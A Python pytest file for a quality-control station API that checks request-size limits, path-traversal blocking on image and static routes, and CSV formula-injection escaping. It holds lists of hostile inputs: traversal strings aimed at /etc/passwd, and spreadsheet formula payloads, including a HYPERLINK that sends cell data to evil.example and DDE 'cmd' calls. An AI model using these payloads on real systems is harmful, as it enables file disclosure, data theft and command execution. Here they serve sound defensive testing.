"""Security of the API (issue #8), part 2: big bodies, path traversal, CSV formulas.

Part 1 (tokens, write routes, hostile queries) is ``tests/test_security.py``; the
same real app (real SQLite log, real archive on disk) is attacked here:

* an oversized body is refused with 413 before the app reads it whole;
* an image id that tries to climb out of the archive finds nothing;
* text cells in the CSV export that start like a formula are neutralised.
"""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from helpers.fake_station import FakeStation
from helpers.secure_app import AUTH, TOKEN

from station.api import create_app
from station.export.files import FORMULA_PREFIXES
from station.store import InspectionRecord, QCStore

SECRET = b"TOP-SECRET-OUTSIDE-THE-ARCHIVE"
MAX_BODY_BYTES = 64 * 1024
BODY_CHUNK_BYTES = 1024
HUGE_DECLARED_BYTES = 10 * 1024 * 1024 * 1024


@pytest.fixture
def app(store: QCStore, station: FakeStation) -> FastAPI:
    return create_app(store, station, token=TOKEN)


@pytest.fixture
def client(app: FastAPI) -> Iterator[TestClient]:
    with TestClient(app) as c:
        yield c


# -- oversized bodies -----------------------------------------------------------------------
def _post_raw(app: FastAPI, headers: list[tuple[bytes, bytes]], chunks: int) -> tuple[int, int]:
    """POST an endless-looking body straight into the ASGI app; (status, bytes it read)."""
    consumed = 0
    sent_chunks = 0
    status: list[int] = []

    async def receive() -> dict[str, Any]:
        nonlocal consumed, sent_chunks
        sent_chunks += 1
        if sent_chunks > chunks:
            return {"type": "http.disconnect"}
        consumed += BODY_CHUNK_BYTES
        return {
            "type": "http.request",
            "body": b"x" * BODY_CHUNK_BYTES,
            "more_body": sent_chunks < chunks,
        }

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            status.append(message["status"])

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/api/v1/batches",
        "raw_path": b"/api/v1/batches",
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"testserver"), *headers],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
        "app": app,
    }
    asyncio.run(app(scope, receive, send))
    return status[0], consumed


@pytest.mark.parametrize("auth", [True, False], ids=["with-token", "without-token"])
def test_a_declared_huge_body_is_refused_before_reading_it(app: FastAPI, auth: bool) -> None:
    headers = [
        (b"content-type", b"application/json"),
        (b"content-length", str(HUGE_DECLARED_BYTES).encode()),
    ]
    if auth:
        headers.append((b"authorization", AUTH["Authorization"].encode()))
    status, consumed = _post_raw(app, headers, chunks=HUGE_DECLARED_BYTES // BODY_CHUNK_BYTES)
    assert status == 413
    assert consumed == 0, "refused on the declared length, not one byte read"


def test_an_undeclared_huge_body_is_cut_at_the_limit(app: FastAPI) -> None:
    headers = [
        (b"content-type", b"application/json"),
        (b"authorization", AUTH["Authorization"].encode()),
    ]
    chunks = 100 * MAX_BODY_BYTES // BODY_CHUNK_BYTES  # 6.4 MB offered
    status, consumed = _post_raw(app, headers, chunks=chunks)
    assert status == 413
    assert consumed <= MAX_BODY_BYTES + BODY_CHUNK_BYTES, consumed


def test_a_lying_content_length_is_still_cut_at_the_limit(app: FastAPI) -> None:
    headers = [
        (b"content-type", b"application/json"),
        (b"content-length", b"10"),
        (b"authorization", AUTH["Authorization"].encode()),
    ]
    status, consumed = _post_raw(app, headers, chunks=100 * MAX_BODY_BYTES // BODY_CHUNK_BYTES)
    assert status in (400, 413, 422)
    assert consumed <= MAX_BODY_BYTES + BODY_CHUNK_BYTES, consumed


def test_a_big_label_note_is_refused(client: TestClient, station: FakeStation) -> None:
    rec = station.inspect("reject", ("hole",))
    url = f"/api/v1/inspections/{rec.id}/label"
    r = client.post(url, json={"label": "hole", "note": "n" * 501}, headers=AUTH)
    assert r.status_code == 422, "the note is bounded below the body limit too"


# -- path traversal on image ids --------------------------------------------------------------
HOSTILE_IDS: list[str] = [
    "..",
    "../..",
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e",
    "%2e%2e%2f%2e%2e%2fsecret.txt",
    "%252e%252e%252fsecret.txt",
    "..%5c..%5csecret.txt",
    "%2Fetc%2Fpasswd",
    "%2F%2Fetc%2Fpasswd",
    "..%00.jpg",
    "%c0%ae%c0%ae%c0%afsecret.txt",
    "\uff0e\uff0e%2fsecret.txt",
    "images%2F..%2F..%2Fsecret.txt",
    "file:%2F%2F%2Fetc%2Fpasswd",
    "00000000-0000-0000-0000-000000000000%2F..%2F..%2Fsecret.txt",
    "x" * 4000,
]


@pytest.fixture
def planted(tmp_path: Path) -> Path:
    """A secret next to the archive and the QC log: nothing may ever serve it."""
    secret = tmp_path / "secret.txt"
    secret.write_bytes(SECRET)
    return secret


def _never_served(r: Any) -> None:
    assert 400 <= r.status_code < 500, r.status_code
    assert SECRET not in r.content
    assert b"root:" not in r.content and b"SQLite format" not in r.content


@pytest.mark.parametrize("hostile", HOSTILE_IDS, ids=lambda s: s[:30])
def test_hostile_image_ids_find_nothing(client: TestClient, planted: Path, hostile: str) -> None:
    for suffix in ("", "/image", "/raw", "/image?width_px=160"):
        _never_served(client.get(f"/api/v1/inspections/{hostile}{suffix}"))
    r = client.post(f"/api/v1/inspections/{hostile}/label", json={"label": "good"}, headers=AUTH)
    _never_served(r)


@pytest.mark.parametrize("hostile", ["../secret.txt", "%2e%2e/secret.txt", "..%2Fsecret.txt"])
def test_hostile_static_and_locale_paths_find_nothing(
    client: TestClient, planted: Path, hostile: str
) -> None:
    for prefix in ("/static/", "/api/v1/i18n/", "/static/../../"):
        _never_served(client.get(prefix + hostile))


@pytest.mark.parametrize(
    "stored", ["../secret.txt", "../../secret.txt", "/secret.txt", "link/secret.txt", "link"]
)
def test_log_paths_and_symlinks_cannot_leave_the_archive(
    store: QCStore, tmp_path: Path, planted: Path, stored: str
) -> None:
    """Log-only mode trusts no stored path: ``..``, absolute and symlinked ones are 404."""
    images = tmp_path / "images"
    images.mkdir(exist_ok=True)
    (images / "link").symlink_to(tmp_path, target_is_directory=True)
    absolute = str(planted) if stored == "/secret.txt" else stored
    rec = InspectionRecord(
        verdict="reject",
        station_id="s",
        workshop="w",
        image_raw_path=absolute,
        image_annotated_path=absolute,
    )
    store.record(rec)
    with TestClient(create_app(store, data_dir=tmp_path, token=TOKEN)) as c:
        for kind in ("image", "raw"):
            r = c.get(f"/api/v1/inspections/{rec.id}/{kind}")
            assert r.status_code == 404, (stored, kind)
            assert SECRET not in r.content


# -- CSV formula injection ----------------------------------------------------------------------
FORMULAS: list[str] = [
    '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(text: str, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("params", "delimiter"),
    [
        ({}, ","),
        ({"delimiter": ";", "decimal_comma": "true"}, ";"),
        ({"delimiter": "tab", "bom": "false"}, "\t"),
    ],
    ids=["comma", "french-excel", "tab"],
)
def test_csv_export_neutralises_formulas(
    client: TestClient,
    store: QCStore,
    station: FakeStation,
    params: dict[str, str],
    delimiter: str,
) -> None:
    # A supervisor names the workshop of a batch through the API (its pattern allows "-").
    r = client.post(
        "/api/v1/batches", json={"workshop": "-2-3", "order_number": "-1"}, headers=AUTH
    )
    assert r.status_code == 201, r.text
    from_api = station.inspect("reject", ("hole",))
    # Other systems write batch ids, station ids, messages and versions straight to the log.
    for i, evil in enumerate(FORMULAS):
        store.record(
            InspectionRecord(
                verdict="reject",
                station_id=evil,
                workshop=evil,
                batch_id=evil,
                defects=[{"code": "hole", "message": evil}],
                measurements={"note": evil},
                spec_version=evil,
                model_version=evil,
                calibration_version=evil,
                message=evil,
                latency_ms=-1.5 - i,
            )
        )
    r = client.get("/api/v1/export", params={"format": "csv", **params})
    assert r.status_code == 200
    rows = _csv_rows(r.text, delimiter)
    assert len(rows) == 1 + len(FORMULAS)
    assert {row["id"] for row in rows} >= {from_api.id}
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(FORMULA_PREFIXES):
                assert _is_number(cell), f"{column} = {cell!r} would run as a formula"
    evil_rows = [row for row in rows if row["id"] != from_api.id]
    for row, evil in zip(evil_rows, FORMULAS, strict=True):
        for column in ("station_id", "workshop", "batch_id", "message", "model_version"):
            assert row[column] == "'" + evil, (column, row[column])
        assert row["latency_ms"].startswith("-"), "a negative number stays a number"
    api_row = next(row for row in rows if row["id"] == from_api.id)
    assert api_row["batch_id"] and not api_row["batch_id"].startswith(FORMULA_PREFIXES)
